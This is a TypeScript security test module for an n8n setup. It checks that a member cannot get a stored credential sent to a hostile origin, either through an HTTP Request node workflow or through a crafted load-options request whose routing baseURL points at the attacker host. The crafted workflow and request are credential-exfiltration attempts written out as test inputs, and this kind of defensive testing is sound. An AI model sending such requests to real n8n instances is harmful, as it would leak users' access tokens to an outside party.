import assert from 'node:assert/strict';
import type { Credential } from '../n8n/credentials';
import { EditorRefusal } from '../n8n/editorSession';
import { execute } from '../n8n/executions';
import { node } from '../n8n/mailNodes';
import { chain, saveWorkflow, type WorkflowDefinition } from '../n8n/workflows';
import { requireNoSecret, type Scene } from './tryWay';

const HTTP_REQUEST = 'n8n-nodes-base.httpRequest';

/** n8n's HTTP Request node would send the token to any address that it is given. */
export async function checkHttpRequest(scene: Scene, credential: Credential): Promise<string> {
	const { sandbox, member, hostile } = scene;
	hostile.requests.length = 0;
	const before = sandbox.requests.length;
	const said: string[] = [];
	for (const url of [hostile.origin, `${sandbox.loginOrigin}/v1.0/me/messages`]) {
		try {
			const workflow = await saveWorkflow(member, httpRequest(url, credential));
			const { status, error, stored } = await execute(member, workflow);
			requireNoSecret(sandbox, [stored]);
			assert.equal(status, 'error', `${url} was called`);
			said.push(error?.message ?? '');
		} catch (error) {
			// n8n does not save a workflow with a node that may not use its credential.
			if (!(error instanceof EditorRefusal)) throw error;
			said.push(error.message);
		}
	}
	assert.deepEqual(hostile.requests, []);
	assert.equal(sandbox.requests.length, before, 'Graph was called');
	return said[0] ?? '';
}

function httpRequest(url: string, credential: Credential): WorkflowDefinition {
	return chain(`HTTP Request: ${credential.type}`, [
		node(1, 'Start', 'n8n-nodes-base.manualTrigger', 1, {}),
		{
			...node(2, 'HTTP Request', HTTP_REQUEST, 4.2, {
				url,
				authentication: 'predefinedCredentialType',
				nodeCredentialType: credential.type,
				options: {},
			}),
			credentials: { [credential.type]: { id: credential.id, name: credential.name } },
		},
	]);
}

/** The editor's request for a list of options may bring a request of its own, with a credential. */
export async function checkLoadOptions(scene: Scene, credential: Credential): Promise<string> {
	const { sandbox, member, hostile } = scene;
	hostile.requests.length = 0;
	const before = sandbox.requests.length;
	const said: string[] = [];
	for (const name of [HTTP_REQUEST, 'n8n-nodes-robomq-outlook.sendOutlookMail']) {
		const asked = {
			path: 'parameters.url',
			nodeTypeAndVersion: { name, version: name === HTTP_REQUEST ? 4.2 : 1 },
			currentNodeParameters: {
				authentication: 'predefinedCredentialType',
				nodeCredentialType: credential.type,
				application: credential.type.startsWith('roboMq') ? 'roboMq' : 'customer',
				operation: 'send',
			},
			credentials: { [credential.type]: { id: credential.id, name: credential.name } },
			loadOptions: {
				routing: { request: { method: 'GET', url: '/me/messages', baseURL: hostile.origin } },
			},
		};
		try {
			const answer = await member.post('/dynamic-node-parameters/options', asked);
			said.push(`answered: ${JSON.stringify(answer)}`);
		} catch (error) {
			if (!(error instanceof EditorRefusal)) throw error;
			said.push(error.message);
		}
	}
	assert.deepEqual(hostile.requests, []);
	assert.equal(sandbox.requests.length, before, 'Graph was called');
	requireNoSecret(sandbox, said);
	return said.join('; ').slice(0, 160);
}
